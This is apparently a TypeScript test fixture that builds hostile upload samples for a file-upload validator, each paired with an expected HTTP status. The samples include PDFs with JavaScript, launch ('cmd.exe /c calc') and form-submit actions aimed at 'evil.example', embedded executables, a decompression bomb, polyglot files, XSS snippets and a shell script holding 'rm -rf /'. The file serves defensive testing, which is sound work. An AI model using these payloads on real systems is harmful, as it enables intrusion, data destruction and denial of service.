import { deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { createFlac, createMp3, createMp4, createOgg } from "@/tests/support/files";
import { createPdfOf } from "@/tests/support/pdfs";

/** A generated file: what it is, its expected status, and for 201 what it is taken for. */
type HostileFile = {
  description: string;
  status: 201 | 413 | 415 | 422;
  kind?: "PDF" | "AUDIO" | "PICTURE";
  create: () => Promise<Buffer> | Buffer;
};

const pages = "<</Type/Pages/Kids[]/Count 0>>";
const createActionPdf = (action: string) =>
  createPdfOf({ objects: [`<</Type/Catalog/Pages 2 0 R/OpenAction<<${action}>>>>`, pages] });
const plainPdf = createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages] });

const createStream = (bytes: Buffer, fields = "") =>
  Buffer.concat([
    Buffer.from(`<<${fields}/Length ${bytes.length}>>\nstream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);

/** 100 kB that unpack to 100 MB. */
const createBomb = () => deflateSync(Buffer.alloc(100 * 1024 * 1024));

const script = "<script>alert(1)</script>";
const page = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const archive = Buffer.from("PK\x03\x04\x14\0\0\0\0\0evil.txt" + "\0".repeat(40), "latin1");
const id3 = Buffer.from("ID3\x04\0\0\0\0\0\0", "latin1");

/** Nothing on the server reads what is in a PDF, so it is taken however hostile its content is: browsers get it to save, in a sandbox. */
const pdfs = [
  {
    description: "an encrypted PDF",
    create: () =>
      createPdfOf({
        objects: [
          "<</Type/Catalog/Pages 2 0 R>>",
          pages,
          "<</Filter/Standard/V 5/R 6/O()/U()/P -4>>",
        ],
        trailer: "/Encrypt 3 0 R",
      }),
  },
  {
    description: "a PDF that runs JavaScript",
    create: () => createActionPdf(`/S/JavaScript/JS(app.alert\\(1\\))`),
  },
  {
    description: "a PDF that launches a program",
    create: () => createActionPdf("/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>"),
  },
  {
    description: "a PDF that sends a form",
    create: () => createActionPdf("/S/SubmitForm/F(https://evil.example)"),
  },
  {
    description: "a PDF with a program attached",
    create: () =>
      createPdfOf({
        objects: [
          "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>>>",
          pages,
          "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>",
          createStream(Buffer.from("MZ\x90\0", "latin1"), "/Type/EmbeddedFile"),
        ],
      }),
  },
  {
    description: "a PDF that says it has two thousand million pages",
    create: () =>
      createPdfOf({
        objects: ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 2147483647>>"],
      }),
  },
  {
    description: "a PDF of 100 kB that unpacks to 100 MB",
    create: () =>
      createPdfOf({
        objects: [
          "<</Type/Catalog/Pages 2 0 R>>",
          pages,
          createStream(createBomb(), "/Filter/FlateDecode"),
        ],
      }),
  },
  {
    description: "a PDF that holds an archive",
    create: () =>
      createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages, createStream(archive)] }),
  },
  {
    description: "a PDF with a page further in",
    create: () =>
      createPdfOf({
        objects: [
          "<</Type/Catalog/Pages 2 0 R>>",
          pages,
          createStream(Buffer.from(" ".repeat(4_096) + page)),
        ],
      }),
  },
  { description: "two PDFs in one", create: () => Buffer.concat([plainPdf, plainPdf]) },
].map((file): HostileFile => ({ ...file, status: 201, kind: "PDF" }));

/** Files that are two things at once, or another than they say. */
const disguised: HostileFile[] = [
  { description: "nothing", status: 415, create: () => Buffer.alloc(0) },
  { description: "one byte", status: 415, create: () => Buffer.from("%") },
  { description: "the beginning of a PDF", status: 422, create: () => Buffer.from("%PDF-1.7\n") },
  { description: "a PDF that is cut off", status: 422, create: () => plainPdf.subarray(0, -12) },
  {
    description: "a PDF that is a page as well",
    status: 415,
    create: () => createPdfOf({ head: `%PDF-1.7\n%${page}\n` }),
  },
  {
    description: "a page that is a PDF as well",
    status: 415,
    create: () => Buffer.concat([Buffer.from(`${page}<!--`), plainPdf]),
  },
  {
    description: "a PDF that is an SVG as well",
    status: 415,
    create: () => createPdfOf({ head: `%PDF-1.7\n%${svg}\n` }),
  },
  {
    description: "a PDF that is an archive as well",
    status: 422,
    create: () => Buffer.concat([plainPdf, archive]),
  },
  {
    description: "an archive that is a PDF as well",
    status: 415,
    create: () => Buffer.concat([archive, plainPdf]),
  },
  { description: "an SVG, whatever its name", status: 415, create: () => Buffer.from(svg) },
  {
    description: "an SVG behind a declaration",
    status: 415,
    create: () => Buffer.from(`<?xml version="1.0"?>\n${svg}`),
  },
  { description: "a packed SVG", status: 415, create: () => gzipSync(svg) },
  { description: "a page, whatever its name", status: 415, create: () => Buffer.from(page) },
  {
    description: "a program",
    status: 415,
    create: () => Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0 and more", "latin1"),
  },
  {
    description: "a shell script",
    status: 415,
    create: () => Buffer.from("#!/bin/sh\nrm -rf / # and more"),
  },
  {
    description: "a document of an office program",
    status: 415,
    create: () => archive,
  },
  {
    description: "a PNG that is an archive as well",
    status: 201,
    kind: "PICTURE",
    create: async () =>
      Buffer.concat([
        await sharp({ create: { width: 60, height: 40, channels: 3, background: "#c03020" } })
          .png()
          .toBuffer(),
        archive,
      ]),
  },
  {
    description: "a GIF that is a script as well",
    status: 422,
    create: () => Buffer.from("GIF89a=1;alert(1);//and enough to be told from"),
  },
  {
    description: "a JPEG that is a page",
    status: 422,
    create: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(page)]),
  },
];

const sounds: HostileFile[] = [
  {
    description: "an MP3 whose tag is a page",
    status: 415,
    create: () => Buffer.concat([id3, Buffer.from(page), createMp3()]),
  },
  {
    description: "an MP3 that is a PDF as well",
    status: 415,
    create: () => Buffer.concat([id3, plainPdf]),
  },
  {
    description: "a FLAC that is a page as well",
    status: 415,
    create: () => Buffer.concat([Buffer.from("fLaC"), Buffer.from(page), createFlac()]),
  },
  { description: "an OGG film", status: 415, create: () => createOgg("\x80theora") },
  { description: "an M4A with moving pictures", status: 415, create: () => createMp4(["vide"]) },
  {
    description: "an M4A that is cut off",
    status: 422,
    create: () => createMp4(["soun"]).subarray(0, -10),
  },
  {
    description: "an M4A whose boxes never end",
    status: 422,
    create: () => {
      const file = createMp4(["soun"]);
      return Buffer.concat([file, ...Array.from({ length: 200 }, () => file.subarray(0, 16))]);
    },
  },
  {
    description: "a WAV file",
    status: 415,
    create: () => Buffer.from("RIFF\0\0\0\0WAVEfmt and more"),
  },
  { description: "an MP3 with a false frame", status: 415, create: () => Buffer.alloc(400, 0xff) },
];

export const hostileFiles: readonly HostileFile[] = [...pdfs, ...disguised, ...sounds];
